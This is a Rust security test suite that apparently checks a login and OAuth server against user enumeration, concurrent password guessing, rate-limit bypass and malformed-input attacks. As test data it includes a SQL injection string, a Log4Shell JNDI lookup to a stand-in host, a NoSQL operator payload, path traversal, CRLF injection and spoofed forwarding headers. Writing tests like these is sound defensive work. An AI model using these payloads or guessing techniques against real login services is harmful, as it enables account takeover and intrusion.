//! Passwords: guessed, many at once, long, by every way there is, and who has an account.

use futures_util::future::join_all;
use serde_json::json;

use crate::browser::*;
use crate::harness::*;
use crate::row::{attacks, client_of};
use crate::victim::each_once;

/// A wrong password by the pages.
async fn at_a_page(app: &TestApp, name: &str) -> Seen {
    let browser = Browser::new(app);
    let page = browser.authorize(&[]).await;
    let csrf = page.hidden("csrf");
    browser
        .post(&page.action(), &[("csrf", csrf.as_str()), ("username", name), ("password", "a wrong guess")])
        .await
}

/// The same by the app's own form.
async fn at_an_app(app: &TestApp, name: &str) -> Answer {
    let form = [
        ("response_type", "code"),
        ("client_id", "app"),
        ("code_challenge", CHALLENGE),
        ("code_challenge_method", "S256"),
        ("username", name),
        ("password", "a wrong guess"),
    ];
    app.form("/oauth/authorization_challenge", &form).await
}

attacks! {
    "who has an account, by status, body and headers", "ASVS 6.3.8, CWE-204", "alike" => |app| {
        let known = app.somebody().await;
        let mut both = Vec::new();
        for name in [known.as_str(), "nobody-at-all"] {
            let body = json!({ "username": name, "password": "a wrong guess" });
            let answer = app.post("/login", &body).await;
            let page = at_a_page(app, name).await;
            let page_text = page.body.replace(name, "NAME").replace(&page.hidden("csrf"), "CSRF");
            both.push((answer.refusal(), page.status, page_text));
        }
        if both[0] == both[1] { "alike".to_owned() } else { format!("{both:?}") }
    }
    "who has an account, by the work that is done", "ASVS 6.3.8, CWE-208", "alike" => |app| {
        let known = app.somebody().await;
        let mut work = Vec::new();
        for name in [known.as_str(), "nobody-at-all"] {
            let before = app.core.passwords.spent();
            app.tries(name, "a wrong guess").await;
            at_a_page(app, name).await;
            work.push(app.core.passwords.spent() - before);
        }
        if work[0] == work[1] && work[0] > 0 { "alike".to_owned() } else { format!("{work:?}") }
    }
    "five hundred guesses at once", "ASVS 6.3.1, CWE-307", "10 looked at; the right one then: 429" => |app| {
        let name = app.somebody().await;
        let guesses = (0..500).map(|number| {
            let name = &name;
            async move { app.tries(name, &format!("wrong guess {number}")).await }
        });
        let statuses = join_all(guesses).await;
        let looked_at = statuses.iter().filter(|status| **status == 401).count();
        assert!(statuses.iter().all(|status| [401, 429, 503].contains(status)), "{statuses:?}");
        format!("{looked_at} looked at; the right one then: {}", app.tries(&name, PASSWORD).await)
    }
    "five hundred logins at once are no denial to others", "ASVS 6.1.1", "served" => |app| {
        let (victim, other) = (app.somebody().await, app.somebody().await);
        let flood = join_all((0..500).map(|number| {
            let victim = &victim;
            async move { app.tries(victim, &format!("wrong guess {number}")).await }
        }));
        // Who is asked to come back comes back.
        let elsewhere = client_of([127, 9, 0, 1].into());
        let honest = async {
            loop {
                let body = json!({ "username": other, "password": PASSWORD });
                let answer = app.send(elsewhere.post(app.at("/login")).json(&body)).await;
                match answer.status.as_u16() {
                    503 => tokio::time::sleep(SECOND / 50).await,
                    200 => return "served".to_owned(),
                    _ => return answer.code(),
                }
            }
        };
        tokio::join!(flood, honest).1
    }
    "guesses by one door after another", "CWE-307, ASVS 6.3.4", "10 looked at; then 429 429 429" => |app| {
        let name = app.somebody().await;
        let mut looked_at = 0;
        for number in 0..12 {
            let status = match number % 3 {
                0 => app.tries(&name, "a wrong guess").await,
                1 => at_a_page(app, &name).await.status.as_u16(),
                _ => at_an_app(app, &name).await.status.as_u16(),
            };
            looked_at += u32::from(status != 429);
        }
        let page = at_a_page(app, &name).await.status.as_u16();
        let typed = at_an_app(app, &name).await.status.as_u16();
        format!("{looked_at} looked at; then {} {page} {typed}", app.tries(&name, PASSWORD).await)
    }
    "guesses under other spellings of the name", "RFC 8265 §3.3, CWE-178", "10 looked at" => |app| {
        let name = app.somebody().await;
        let wide: String = name.chars().map(|it| char::from_u32(u32::from(it) + 0xfee0).unwrap()).collect();
        let spellings = [name.to_uppercase(), format!(" {name}"), format!("{name} "), wide, name.clone()];
        let mut looked_at = 0;
        for spelling in spellings.iter().cycle().take(25) {
            looked_at += u32::from(app.tries(spelling, "a wrong guess").await != 429);
        }
        format!("{looked_at} looked at")
    }
    "guesses whose sender says that it forwards for others", "CWE-348", "10 looked at" => |app| {
        let name = app.somebody().await;
        let mut looked_at = 0;
        for number in 0..30 {
            let body = json!({ "username": name, "password": "a wrong guess" });
            let request = app.http.post(app.at("/login")).json(&body);
            let request = request
                .header("x-forwarded-for", format!("192.0.2.{number}"))
                .header("forwarded", format!("for=192.0.2.{number}"))
                .header("x-real-ip", format!("192.0.2.{number}"))
                .header("true-client-ip", format!("192.0.2.{number}"))
                .header("cf-connecting-ip", format!("192.0.2.{number}"));
            looked_at += u32::from(app.send(request).await.status != 429);
        }
        format!("{looked_at} looked at")
    }
    "a password of a mebibyte", "ASVS 6.2.9, CWE-400", "413, 413; hashed: 0" => |app| {
        let name = app.somebody().await;
        let before = app.core.passwords.spent();
        let long = "x".repeat(1 << 20);
        let simple = app.tries(&name, &long).await;
        let form = [("response_type", "code"), ("client_id", "app"), ("username", name.as_str()), ("password", &long)];
        let typed = app.form("/oauth/authorization_challenge", &form).await.status.as_u16();
        format!("{simple}, {typed}; hashed: {}", app.core.passwords.spent() - before)
    }
    "a password that is right up to where it was cut off", "ASVS 6.2.8", "401" => |app| {
        let name = app.somebody().await;
        let bent = [&PASSWORD[..20], &PASSWORD.to_uppercase(), &format!("{PASSWORD}\u{0}"), &format!("{PASSWORD} ")];
        let mut back = Vec::new();
        for password in bent {
            back.push(app.tries(&name, password).await.to_string().replace("400", "401"));
        }
        each_once(back)
    }
    "a name that is a statement, a pattern, a template", "CWE-89, CWE-943", "401" => |app| {
        let mut back = Vec::new();
        for name in ["' OR '1'='1", "%", "_", "*", "ana'--", "{{7*7}}", "${jndi:ldap://evil.example/x}", "../ana", "ana\r\nx: y"] {
            back.push(app.tries(name, PASSWORD).await.to_string().replace("400", "401"));
        }
        each_once(back)
    }
    "JSON in place of a text", "CWE-943", "400" => |app| {
        let mut back = Vec::new();
        for body in [
            json!({ "username": { "$ne": null }, "password": { "$ne": null } }), json!({ "username": ["ana"], "password": PASSWORD }),
            json!({ "username": "ana", "password": true }), json!({ "username": "ana" }), json!([]), json!(null), json!("ana"),
        ] {
            back.push(app.post("/login", &body).await.status.as_u16().to_string());
        }
        each_once(back)
    }
    "a member that stands twice", "RFC 8259 §4, CWE-235", "400" => |app| {
        let name = app.somebody().await;
        let body = format!(r#"{{"username":"{name}","password":"x","password":"{PASSWORD}"}}"#);
        let request = app.http.post(app.at("/login")).header("content-type", "application/json").body(body);
        app.send(request).await.status.as_u16().to_string()
    }
    "JSON ten thousand levels deep", "CWE-674", "400" => |app| {
        let body = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
        let request = app.http.post(app.at("/login")).header("content-type", "application/json").body(body);
        app.send(request).await.status.as_u16().to_string()
    }
    "a login that another site's form makes", "CWE-352", "400" => |app| {
        let name = app.somebody().await;
        let body = json!({ "username": name, "password": PASSWORD }).to_string();
        let mut back = Vec::new();
        for kind in ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "text/plain; application/json"] {
            let request = app.http.post(app.at("/login")).header("content-type", kind).body(body.clone());
            back.push(app.send(request).await.status.as_u16().to_string());
        }
        each_once(back)
    }
    "a client of somebody else's takes passwords", "RFC 9700 §2.4", "400 unauthorized_client" => |app| {
        let name = app.somebody().await;
        let body = json!({ "username": name, "password": PASSWORD, "client_id": "other" });
        app.post("/login", &body).await.code()
    }
    "the owner at home, while the whole world guesses", "ASVS 6.1.1, CWE-645", "stranger: 429; at home: 200" => |app| {
        let name = app.somebody().await;
        let home = client_of([127, 9, 1, 1].into());
        let body = |password: &str| json!({ "username": name, "password": password });
        app.send(home.post(app.at("/login")).json(&body(PASSWORD))).await.tokens();
        for number in 0..120_u8 {
            let somewhere = client_of([127, 9, 2, number].into());
            app.send(somewhere.post(app.at("/login")).json(&body("a wrong guess"))).await;
        }
        let stranger = client_of([127, 9, 3, 1].into());
        let stranger = app.send(stranger.post(app.at("/login")).json(&body(PASSWORD))).await.status.as_u16();
        let at_home = app.send(home.post(app.at("/login")).json(&body(PASSWORD))).await.status.as_u16();
        format!("stranger: {stranger}; at home: {at_home}")
    }
}
